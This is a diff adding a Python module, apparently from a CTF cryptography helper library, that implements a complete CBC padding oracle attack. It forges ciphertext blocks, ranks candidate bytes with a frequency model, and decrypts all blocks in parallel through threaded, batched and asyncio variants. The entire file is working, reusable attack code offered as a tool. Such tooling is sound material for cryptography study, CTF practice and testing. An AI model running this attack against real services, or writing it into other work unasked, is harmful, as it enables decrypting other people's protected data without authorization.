@@ -0,0 +1,368 @@
+"""
+CBC padding oracle attack working on bytes.
+Every block is decrypted independently from its predecessor, so all blocks are recovered in parallel,
+and a window of candidates for a single byte is tested concurrently, cancelling the rest on the first hit.
+Candidates are ordered to minimize number of queries: values consistent with the padding of the last block first,
+then bytes ranked by a frequency model updated with every recovered byte, and finally all remaining byte values.
+Expected plaintext bytes given by the caller only add weight to the prior, so they don't override the model.
+Oracle gets two blocks: forged previous block and the attacked block, and returns True if padding is correct.
+"""
+
+import asyncio
+import concurrent.futures
+import itertools
+import math
+import threading
+import time
+
+from crypto_commons.generic import chunk, xor_bytes
+from crypto_commons.xor.frequency import ENGLISH_BYTE_SCORES
+
+PRIOR_WEIGHT = 16
+
+
+class BlockStats(object):
+    def __init__(self, index):
+        """
+        Oracle usage for a single ciphertext block
+        :param index: index of the block in ciphertext, counting iv as block 0
+        """
+        self.index = index
+        self.queries = 0
+        self.hits = 0
+        self.seconds = 0.0
+        self.lock = threading.Lock()
+
+    def record(self, valid):
+        with self.lock:
+            self.queries += 1
+            if valid:
+                self.hits += 1
+
+    def __repr__(self):
+        return "BlockStats(index=%d, queries=%d, hits=%d, seconds=%.3f)" % (
+            self.index, self.queries, self.hits, self.seconds)
+
+
+class CandidateModel(object):
+    def __init__(self, candidates=None, scores=ENGLISH_BYTE_SCORES, prior_weight=PRIOR_WEIGHT):
+        """
+        Plaintext byte model deciding the order of candidates
+        :param candidates: expected plaintext bytes, eg. string.printable, they get additional prior weight
+        spread between them, so they are ranked above other bytes, but in the order of the model
+        :param scores: prior log-probabilities of plaintext bytes
+        :param prior_weight: weight of the prior, as a number of already recovered bytes
+        """
+        self.prior = [prior_weight * math.exp(score) for score in scores]
+        if candidates:
+            candidates = set(bytearray(candidates))
+            for value in candidates:
+                self.prior[value] += float(prior_weight) / len(candidates)
+        self.counts = [0] * 256
+        self.lock = threading.Lock()
+
+    def update(self, value):
+        with self.lock:
+            self.counts[value] += 1
+
+    def order(self, first=()):
+        """
+        :param first: values to test before all others
+        :return: list of all 256 byte values, most likely first
+        """
+        with self.lock:
+            ranked = sorted(range(256), key=lambda value: -(self.counts[value] + self.prior[value]))
+        result = []
+        seen = set()
+        for value in list(first) + ranked:
+            if value not in seen:
+                seen.add(value)
+                result.append(value)
+        return result
+
+
+def padding_candidates(intermediate, previous, position, last):
+    """
+    Values consistent with PKCS7 padding, if the block is the last one of the ciphertext
+    :return: list of plaintext values to test first
+    """
+    if not last:
+        return []
+    block_size = len(previous)
+    if position == block_size - 1:
+        return list(range(1, block_size + 1))
+    padding = intermediate[-1] ^ previous[-1]
+    return [padding] if position >= block_size - padding else []
+
+
+def forge_block(intermediate, previous, position, plaintext_guess):
+    """
+    Prepare previous block for testing a guess of plaintext byte at given position
+    :param intermediate: bytearray of block cipher decryption output, known for bytes after position
+    :param previous: original previous ciphertext block
+    :param position: index of the attacked byte in the block
+    :param plaintext_guess: guessed plaintext byte value
+    :return: forged block bytes
+    """
+    block_size = len(previous)
+    pad = block_size - position
+    forged = bytearray(block_size)
+    forged[position] = plaintext_guess ^ previous[position] ^ pad
+    for i in range(position + 1, block_size):
+        forged[i] = intermediate[i] ^ pad
+    return forged
+
+
+def verification_block(forged):
+    """
+    Valid padding for the last byte might be a longer one, eg. 02 02, if the byte before matches by accident.
+    Changing the byte before has to keep the padding valid.
+    """
+    forged = bytearray(forged)
+    forged[-2] ^= 1
+    return forged
+
+
+def padding_oracle_block(previous, block, oracle, executor, model=None, stats=None, last=False, window=16,
+                         prefix=b""):
+    """
+    Decrypt single block, testing candidates for every byte concurrently
+    :param previous: previous ciphertext block (or iv)
+    :param block: attacked ciphertext block
+    :param oracle: function returning True if padding of given ciphertext is correct
+    :param executor: concurrent.futures executor used for oracle queries
+    :param model: CandidateModel deciding the order of candidates, updated with recovered bytes
+    :param stats: BlockStats to record queries in
+    :param last: True if it's the last block of ciphertext, so the plaintext ends with padding
+    :param window: maximum number of candidates for a single byte tested at the same time
+    :param prefix: ciphertext sent before the forged block in every query
+    :return: plaintext block bytes
+    """
+    model = model or CandidateModel()
+    stats = stats or BlockStats(0)
+    start = time.time()
+    previous = bytearray(previous)
+    block = bytes(block)
+    block_size = len(block)
+    intermediate = bytearray(block_size)
+
+    def query(data):
+        valid = oracle(prefix + data)
+        stats.record(valid)
+        return valid
+
+    for position in range(block_size - 1, -1, -1):
+        order = iter(model.order(padding_candidates(intermediate, previous, position, last)))
+        futures = {}
+
+        def submit_next():
+            guess = next(order, None)
+            if guess is not None:
+                forged = forge_block(intermediate, previous, position, guess)
+                futures[executor.submit(query, bytes(forged) + block)] = guess
+
+        for _ in range(window):
+            submit_next()
+        found = None
+        try:
+            while futures and found is None:
+                done, _ = concurrent.futures.wait(futures, return_when=concurrent.futures.FIRST_COMPLETED)
+                for future in done:
+                    guess = futures.pop(future)
+                    if future.result() and (position < block_size - 1 or block_size == 1 or query(
+                            bytes(verification_block(forge_block(intermediate, previous, position, guess))) + block)):
+                        found = guess
+                        break
+                    submit_next()
+        finally:
+            for future in futures:
+                future.cancel()
+        if found is None:
+            raise ValueError("No valid padding found for byte %d of the block" % position)
+        intermediate[position] = found ^ previous[position]
+        model.update(found)
+    stats.seconds = time.time() - start
+    return xor_bytes(intermediate, previous)
+
+
+def padding_oracle_decrypt(ciphertext, oracle, block_size=16, threads=16, iv=None, candidates=None, stats=None,
+                           window=None, keep_prefix=False):
+    """
+    Decrypt CBC ciphertext using padding oracle, with all blocks recovered in parallel
+    :param ciphertext: ciphertext bytes, first block is used as iv if iv is not given
+    :param oracle: function returning True if padding of given ciphertext is correct, has to be thread-safe
+    :param block_size: size of a single block
+    :param threads: number of concurrent oracle queries
+    :param iv: initialization vector, if it's not the first block of ciphertext
+    :param candidates: expected plaintext bytes, eg. string.printable, ranked above other bytes by the model
+    :param stats: list to fill with BlockStats of every block
+    :param window: maximum number of candidates for a single byte tested at the same time, by default all threads
+    :param keep_prefix: send all ciphertext blocks before the forged one in every query, for oracles checking message
+    length or block positions, by default only the forged block and the attacked block are sent
+    :return: plaintext bytes, with padding
+    """
+    blocks = chunk(bytes(iv or b"") + bytes(ciphertext), block_size)
+    assert len(blocks) > 1, "There has to be at least one block after iv"
+    model = CandidateModel(candidates)
+    block_stats = [BlockStats(i) for i in range(1, len(blocks))]
+    if stats is not None:
+        stats.extend(block_stats)
+    first = 1 if iv else 0
+    with concurrent.futures.ThreadPoolExecutor(threads) as queries, \
+            concurrent.futures.ThreadPoolExecutor(min(threads, len(blocks) - 1)) as block_pool:
+        results = block_pool.map(lambda i: padding_oracle_block(blocks[i - 1], blocks[i], oracle, queries, model,
+                                                                block_stats[i - 1], i == len(blocks) - 1, window or threads,
+                                                                b"".join(blocks[first:i - 1]) if keep_prefix else b""),
+                                 range(1, len(blocks)))
+        return b"".join(results)
+
+
+def padding_oracle_decrypt_batched(ciphertext, batch_oracle, block_size=16, iv=None, candidates=None, stats=None,
+                                   window=64):
+    """
+    Decrypt CBC ciphertext using pipelined padding oracle, eg. many queries sent at once over a single connection.
+    All blocks are recovered in lockstep, so every batch tests a window of candidates for the same byte of every block,
+    and with good candidates there is about one round-trip per byte position.
+    :param ciphertext: ciphertext bytes, first block is used as iv if iv is not given
+    :param batch_oracle: function taking list of ciphertexts and returning iterable of padding results in order,
+    eg. netcat_commons.batch_oracle
+    :param block_size: size of a single block
+    :param iv: initialization vector, if it's not the first block of ciphertext
+    :param candidates: expected plaintext bytes, eg. string.printable, ranked above other bytes by the model
+    :param stats: list to fill with BlockStats of every block, time of every batch is split between blocks
+    by the number of their queries in it
+    :param window: number of candidates for a single byte of every block in one batch
+    :return: plaintext bytes, with padding
+    """
+    blocks = chunk(bytes(iv or b"") + bytes(ciphertext), block_size)
+    assert len(blocks) > 1, "There has to be at least one block after iv"
+    model = CandidateModel(candidates)
+    count = len(blocks) - 1
+    previous = [bytearray(block) for block in blocks[:-1]]
+    attacked = [bytes(block) for block in blocks[1:]]
+    intermediates = [bytearray(block_size) for _ in range(count)]
+    block_stats = [BlockStats(i) for i in range(1, len(blocks))]
+    if stats is not None:
+        stats.extend(block_stats)
+
+    def query(payloads, guesses):
+        start = time.time()
+        results = list(batch_oracle(payloads))
+        share = (time.time() - start) / len(guesses) if guesses else 0.0
+        for (i, _), valid in zip(guesses, results):
+            block_stats[i].record(valid)
+            block_stats[i].seconds += share
+        return [guess for guess, valid in zip(guesses, results) if valid]
+
+    for position in range(block_size - 1, -1, -1):
+        orders = {i: iter(model.order(padding_candidates(intermediates[i], previous[i], position, i == count - 1)))
+                  for i in range(count)}
+        while orders:
+            guesses = []
+            for i, order in orders.items():
+                batch = [(i, guess) for guess in itertools.islice(order, window)]
+                if not batch:
+                    raise ValueError("No valid padding found for byte %d of block %d" % (position, i + 1))
+                guesses.extend(batch)
+            hits = query([bytes(forge_block(intermediates[i], previous[i], position, guess)) + attacked[i]
+                          for i, guess in guesses], guesses)
+            if hits and position == block_size - 1 and block_size > 1:
+                hits = query([bytes(verification_block(forge_block(intermediates[i], previous[i], position, guess)))
+                              + attacked[i] for i, guess in hits], hits)
+            for i, guess in hits:
+                if i in orders:
+                    del orders[i]
+                    intermediates[i][position] = guess ^ previous[i][position]
+                    model.update(guess)
+    return b"".join(xor_bytes(intermediates[i], previous[i]) for i in range(count))
+
+
+async def padding_oracle_block_async(previous, block, query, model=None, stats=None, last=False, window=16):
+    """
+    Decrypt single block, testing candidates for every byte concurrently
+    :param previous: previous ciphertext block (or iv)
+    :param block: attacked ciphertext block
+    :param query: coroutine function returning True if padding of given ciphertext is correct
+    :param model: CandidateModel deciding the order of candidates, updated with recovered bytes
+    :param stats: BlockStats to record queries in
+    :param last: True if it's the last block of ciphertext, so the plaintext ends with padding
+    :param window: maximum number of candidates for a single byte tested at the same time
+    :return: plaintext block bytes
+    """
+    model = model or CandidateModel()
+    stats = stats or BlockStats(0)
+    start = time.time()
+    previous = bytearray(previous)
+    block = bytes(block)
+    block_size = len(block)
+    intermediate = bytearray(block_size)
+
+    async def counted_query(data):
+        valid = await query(data)
+        stats.record(valid)
+        return valid
+
+    for position in range(block_size - 1, -1, -1):
+        order = iter(model.order(padding_candidates(intermediate, previous, position, last)))
+        tasks = {}
+
+        def submit_next():
+            guess = next(order, None)
+            if guess is not None:
+                forged = forge_block(intermediate, previous, position, guess)
+                tasks[asyncio.ensure_future(counted_query(bytes(forged) + block))] = guess
+
+        for _ in range(window):
+            submit_next()
+        found = None
+        try:
+            while tasks and found is None:
+                done, _ = await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
+                for task in done:
+                    guess = tasks.pop(task)
+                    if task.result() and (position < block_size - 1 or block_size == 1 or await counted_query(
+                            bytes(verification_block(forge_block(intermediate, previous, position, guess))) + block)):
+                        found = guess
+                        break
+                    submit_next()
+        finally:
+            for task in tasks:
+                task.cancel()
+        if found is None:
+            raise ValueError("No valid padding found for byte %d of the block" % position)
+        intermediate[position] = found ^ previous[position]
+        model.update(found)
+    stats.seconds = time.time() - start
+    return xor_bytes(intermediate, previous)
+
+
+async def padding_oracle_decrypt_async(ciphertext, oracle, block_size=16, concurrency=16, iv=None, candidates=None,
+                                       stats=None, window=None):
+    """
+    Decrypt CBC ciphertext using asynchronous padding oracle, with all blocks recovered in parallel
+    :param ciphertext: ciphertext bytes, first block is used as iv if iv is not given
+    :param oracle: coroutine function returning True if padding of given ciphertext is correct
+    :param block_size: size of a single block
+    :param concurrency: maximum number of oracle queries in progress
+    :param iv: initialization vector, if it's not the first block of ciphertext
+    :param candidates: expected plaintext bytes, eg. string.printable, ranked above other bytes by the model
+    :param stats: list to fill with BlockStats of every block
+    :param window: maximum number of candidates for a single byte tested at the same time, by default all threads
+    :return: plaintext bytes, with padding
+    """
+    blocks = chunk(bytes(iv or b"") + bytes(ciphertext), block_size)
+    assert len(blocks) > 1, "There has to be at least one block after iv"
+    semaphore = asyncio.Semaphore(concurrency)
+    model = CandidateModel(candidates)
+    block_stats = [BlockStats(i) for i in range(1, len(blocks))]
+    if stats is not None:
+        stats.extend(block_stats)
+
+    async def query(data):
+        async with semaphore:
+            return await oracle(data)
+
+    results = await asyncio.gather(*[padding_oracle_block_async(blocks[i - 1], blocks[i], query, model,
+                                                                block_stats[i - 1], i == len(blocks) - 1, window or concurrency)
+                                     for i in range(1, len(blocks))])
+    return b"".join(results)